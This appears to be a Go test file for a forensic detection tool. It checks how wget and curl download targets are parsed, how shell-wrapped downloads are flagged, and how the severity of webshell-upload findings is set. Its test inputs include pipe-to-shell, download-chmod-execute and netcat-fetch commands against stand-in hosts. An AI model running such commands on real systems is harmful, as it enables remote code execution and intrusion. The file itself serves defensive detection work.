package timeline

import (
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

func TestDownloadTarget(t *testing.T) {
	for _, c := range []struct {
		args []string
		cwd  string
		want string
	}{
		{[]string{"wget", "-q", "-O", "/var/www/html/data/rates.json", "http://127.0.0.1:8000/rates.json"}, "/", "/var/www/html/data/rates.json"},
		{[]string{"wget", "-q", "http://10.0.0.5/sysmon", "-O", "/tmp/.sysd"}, "/", "/tmp/.sysd"},
		{[]string{"wget", "http://10.0.0.5/a/kit.tgz?x=1"}, "/tmp", "/tmp/kit.tgz"},
		{[]string{"wget", "--output-document=/dev/shm/x", "http://h/"}, "/", "/dev/shm/x"},
		{[]string{"curl", "-fsS", "-o", "plugin.tgz", "http://h/p.tgz"}, "/tmp", "/tmp/plugin.tgz"},
		{[]string{"curl", "-so/tmp/.x", "http://h/x"}, "/", ""}, // -so…: a cluster, not -o's value: unknown
		{[]string{"curl", "-O", "http://h/tools/nc"}, "/var/tmp", "/var/tmp/nc"},
		{[]string{"curl", "-s", "http://h/x.sh"}, "/tmp", ""}, // to stdout
		{[]string{"curl", "-o", "-", "http://h/x"}, "/tmp", ""},
		{[]string{"wget", "-O", "rel"}, "", ""},
	} {
		if got := downloadTarget(c.args, c.cwd); got != c.want {
			t.Errorf("downloadTarget(%q, %q) = %q, want %q", c.args, c.cwd, got, c.want)
		}
	}
}

func TestShellDownload(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"/bin/sh", "-c", "wget -q -O /var/www/html/data/rates.json http://127.0.0.1:8000/rates.json"}, "/var/www/html/data/rates.json"},
		{[]string{"sh", "-c", "curl -so /tmp/.x http://h/x; chmod +x /tmp/.x; /tmp/.x"}, ""}, // more than a download
		{[]string{"sh", "-c", "curl -s http://h/x | sh"}, ""},
		{[]string{"sh", "-c", "id"}, ""},
		{[]string{"bash"}, ""},
	} {
		if got := shellDownload(c.args, "/"); got != c.want {
			t.Errorf("shellDownload(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

// TestScriptWriteReplacesServedPage: a deployment writes the site's pages
// again — the page was answered under its URL before the write, and the
// write drops one level, with the reason; a new script (no earlier
// request), requested after its write, keeps its severity.
func TestScriptWriteReplacesServedPage(t *testing.T) {
	for _, c := range []struct {
		name    string
		before  bool // the page was answered before the write
		demoted bool
	}{
		{"a page served before is written again", true, true},
		{"a new script", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			if c.before {
				s.http(5, "GET", "/shop/health.jsp", 200, "198.51.100.20", "kube-probe/1.29")
			}
			w := s.find(s.write(10, worker1, parser.KindFileWrite, "/var/www/html/shop/health.jsp"),
				detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root By Web Server")
			w.RuleID = "webroot-script-write"
			s.http(20, "GET", "/shop/health.jsp", 200, "198.51.100.20", "kube-probe/1.29")
			r := s.build()
			var got *detect.Finding
			for _, f := range r.Findings {
				if f.Event == w.Event {
					got = f
				}
			}
			if demoted := got.Severity < detect.SeverityHigh; demoted != c.demoted {
				t.Fatalf("severity %s (%s), want demoted %v", got.Severity, got.Reason, c.demoted)
			}
			if c.demoted && !strings.Contains(got.Reason, "replaces a page the site served before") {
				t.Errorf("reason %q", got.Reason)
			}
		})
	}
}
